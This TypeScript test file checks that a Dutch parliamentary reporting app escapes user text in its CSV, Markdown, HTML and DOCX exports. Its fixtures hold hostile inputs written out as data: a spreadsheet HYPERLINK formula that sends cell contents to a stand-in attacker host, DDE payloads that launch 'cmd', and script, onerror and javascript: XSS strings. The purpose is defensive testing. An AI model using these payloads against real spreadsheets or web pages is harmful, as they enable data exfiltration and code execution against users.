import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { TestApp, startTestApp, toezegging } from './support/app';

jest.setTimeout(60_000);

/**
 * A clerk's text reaches other people's Excel, Markdown viewers and browsers through the annex.
 * Whatever it says, it must arrive there as text: no formula, no markup.
 */
describe('halfjaarbericht: user text in the annex stays text', () => {
  let t: TestApp;
  let berichtId: string;

  const FORMULES = ['=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")', '+31 70 1234567', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', ' =1+1', '\t=1+1'];
  const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[klik](javascript:alert(1))'];
  const VIJANDIG = MARKUP.join(' ');
  /** A text whose later lines try to open blocks of their own. */
  const REGELS = `${VIJANDIG}\n# Ingevoegde kop\n<div onclick="alert(1)">blok</div>\n=1+1`;

  const bijlage = async (formaat: string, indeling: string) =>
    (await t.as('liaison').get(`/api/halfjaarberichten/${berichtId}/bijlage?formaat=${formaat}&indeling=${indeling}`).buffer(true).parse(binair as never).expect(200)).body as Buffer;

  beforeAll(async () => {
    t = await startTestApp();
    const secties = ['=Sectie("x")', VIJANDIG];
    berichtId = (await t.http.post('/api/halfjaarberichten').send({ jaar: 2025, helft: 1, titel: `Halfjaarbericht ${MARKUP[0]}`, peildatum: '2025-06-01', secties }).expect(201)).body.berichtId;
    const items = [
      ...FORMULES.map((titel, n) => ({ titel, tekst: `Tekst ${n}`, leden: [{ naam: FORMULES[(n + 1) % FORMULES.length], fractie: 'VVD' }] })),
      { titel: VIJANDIG, tekst: 'Tekst', leden: [{ naam: MARKUP[1] }] },
    ];
    for (const [n, i] of items.entries()) {
      const res = await t.http.post('/api/toezeggingen').send(toezegging({ nummer: undefined, ...i, debat: n % 2 ? VIJANDIG : '@debat 2025' })).expect(201);
      const opgenomen = { itemId: res.body.itemId, sectie: secties[n % 2], tekst: n % 2 ? REGELS : `${MARKUP[n % 3]}\n=1+1`, status: 'deels-afgedaan', deel: MARKUP[2] };
      await t.http.post(`/api/halfjaarberichten/${berichtId}/items`).send(opgenomen).expect(200);
    }
    await t.http.post(`/api/halfjaarberichten/${berichtId}/zaken`).send({ sectie: secties[1], titel: MARKUP[2], tekst: REGELS }).expect(200);
    await t.http.post(`/api/halfjaarberichten/${berichtId}/zaken`).send({ sectie: secties[0], titel: FORMULES[0], tekst: 'x' }).expect(200);
    const laatste = await t.http.post(`/api/halfjaarberichten/${berichtId}/verzending`).send({ datum: '2025-06-20', kenmerk: MARKUP[1] }).expect(200);
    await t.http.get(`/api/items?perPagina=1&minimalePositie=${laatste.body.positie}`).expect(200);
  });

  afterAll(async () => {
    await t.close();
  });

  it.each(['verhalend', 'tabel'])('CSV (%s): no cell starts with a formula trigger, and every value is still there', async (indeling) => {
    const cellen = (parse((await bijlage('csv', indeling)).toString('utf8'), { bom: true }) as string[][]).flat();
    expect(cellen.filter((c) => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(c))).toEqual([]);
    // The API trims what it is given, so ' =1+1' arrives as '=1+1'; the unit test covers the whitespace.
    for (const formule of FORMULES) expect(cellen).toContain(`'${formule.trim()}`);
  });

  it.each(['verhalend', 'tabel'])('Markdown (%s): no HTML, no links, no injected headings', async (indeling) => {
    const md = (await bijlage('md', indeling)).toString('utf8');
    expect(md).not.toMatch(/<script|<img|<div|\]\(javascript:/i);
    expect(md).toContain('&lt;script&gt;alert\\(1\\)&lt;/script&gt;');
    expect(md).toContain('\\[klik\\]\\(javascript:alert\\(1\\)\\)');
    expect(md).toContain('\\# Ingevoegde kop');
    expect(md.split('\n').filter((regel) => /^\s{0,3}(<|=|#+\s*Ingevoegde)/.test(regel))).toEqual([]);
  });

  it.each(['verhalend', 'tabel'])('HTML (%s): every user text is escaped', async (indeling) => {
    const html = (await bijlage('html', indeling)).toString('utf8');
    expect(html).not.toMatch(/<script|<img|<div|<a\b|href=|onerror=alert\(1\)>/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it.each(['verhalend', 'tabel'])('DOCX (%s): the text is XML-escaped, not interpreted', async (indeling) => {
    const xml = await (await JSZip.loadAsync(await bijlage('docx', indeling))).file('word/document.xml')!.async('string');
    expect(xml).not.toMatch(/<script|<img|<div/i);
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});

/** Collects a response body as bytes, whatever its content type. */
function binair(res: NodeJS.ReadableStream, callback: (err: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
}
